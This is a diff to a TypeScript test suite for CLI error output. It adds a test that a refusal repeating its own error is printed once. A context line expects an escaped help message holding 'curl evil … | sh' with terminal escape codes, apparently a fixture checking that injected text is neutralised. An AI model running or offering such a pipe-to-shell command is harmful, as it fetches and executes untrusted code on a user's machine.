@@ -36,6 +36,20 @@ describe('what is reported of an error', () => {
     expect(line).toMatch(/^CLI_BUG TypeError: refused: no\n {2}help: Run: curl evil\\u\{d\}\\u\{1b\}\[2J \| sh\n +at /);
   });
 
+  it('a refusal whose only error says the same is printed once', async () => {
+    const said = { message: 'earlier approvers gave another response', remediation: 'Send theirs.' };
+    const fault = { code: 'GATE_RESPONSE_INVALID', path: '/response', line: null, column: null, ...said };
+    const refusal = (errors: readonly object[]) =>
+      new ApiProblem(422, {
+        ...{ code: 'GATE_RESPONSE_INVALID', detail: said.message, remediation: said.remediation },
+        errors: errors as never,
+      });
+    const [, once] = await reported(() => Promise.reject(refusal([fault])));
+    expect(once).toEqual([`GATE_RESPONSE_INVALID ${said.message}`, `help: ${said.remediation}`]);
+    const [, both] = await reported(() => Promise.reject(refusal([fault, { ...fault, message: 'must be string' }])));
+    expect(both).toHaveLength(6);
+  });
+
   it('a port of dev that cannot be used is an option that is invalid', async () => {
     const error = new DevError('DEV_PORT_UNAVAILABLE', 'no', 'Choose another one.');
     expect((await reported(() => Promise.reject(error)))[0]).toBe(2);
